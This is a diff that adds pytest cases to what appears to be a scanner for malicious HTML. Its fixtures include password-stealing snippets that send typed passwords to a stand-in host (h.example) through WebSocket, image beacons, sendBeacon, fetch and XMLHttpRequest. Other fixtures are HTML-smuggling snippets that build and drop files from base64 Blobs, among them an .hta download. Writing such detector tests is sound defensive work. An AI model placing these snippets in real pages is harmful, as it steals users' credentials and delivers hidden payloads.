@@ -169,3 +169,32 @@ def test_links_that_save_what_they_hold_have_its_name():
     source = WORDS + "<a download='a.hta' href='data:text/plain;base64,eHh4eHh4eHh4eHh4eHh4eHh4'>x</a>"
     made = [i for i in active(parse(source), source) if isinstance(i, Child)]
     assert [(c.names, c.data) for c in made if c.names] == [(("a.hta",), b"x" * 18)]
+
+
+@pytest.mark.parametrize(("markup", "given"), [
+    ("<script>w=new WebSocket('wss://h.example/s')</script><input type=password oninput='w.send(value)'>", True),
+    ("<input id=p type=password><button onclick=\"new Image().src='https://h.example/i?p='+encodeURIComponent(p.value)\">x</button>", True),
+    ("<input id=p type=password><button onclick=\"navigator.sendBeacon('//h.example/i',new Blob([p.value]))\">x</button>", True),
+    ("<div contenteditable id=p style='-webkit-text-security:disc'></div>"
+     "<button onclick=\"fetch('https://h.example/',{method:'POST',body:p.innerText})\">x</button>", True),
+    ("<form id=f><input name=p type=password></form><button onclick=\"x=new XMLHttpRequest;x.open('POST','https://h.example/');x.send("
+     "new FormData(f))\">x</button>", True),
+    ("<input id=p type=password><button onclick=\"fetch('https://h.example/count',{body:'pressed'})\">x</button>", False),
+    ("<input id=p type=password><button onclick=\"fetch('/login',{body:p.value})\">x</button>", False),
+    ("<input id=q><button onclick=\"fetch('https://h.example/?q='+q.value)\">x</button>", False),
+    ("<form action=https://h.example/login method=post><input name=p type=password><button>x</button></form>", False)])
+def test_passwords_that_a_script_gives_away_beside_much_to_read(markup, given):
+    source = WORDS + markup
+    codes = {i.code for i in active(parse(source), source, played(source, Stage())) if isinstance(i, Observation)}
+    assert ("HTML-PASSWORD-SENT" in codes) is given
+
+
+@pytest.mark.parametrize(("shows", "waits"), [
+    ("f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob([o]));document.body.append(f)", True),
+    ("a.href=URL.createObjectURL(new Blob([o]));HTMLElement.prototype.click.call(a)", True),
+    ("a.href=URL.createObjectURL(new Blob([o]));Reflect.apply(a.click,a,[])", True), ("a.href=URL.createObjectURL(new Blob([o]))", False)])
+def test_files_from_where_the_player_has_none(shows, waits):
+    source = (f"{WORDS}<a id=a></a><script>const o=Uint8Array.from(document.fonts.strangeThing.map(f=>atob(f)).join(''),c=>c.charCodeAt());"
+              f"{shows}</script>")
+    codes = {i.code for i in active(parse(source), source, played(source, Stage())) if isinstance(i, Observation)}
+    assert ("HTML-FILE-WAITS" in codes) is waits
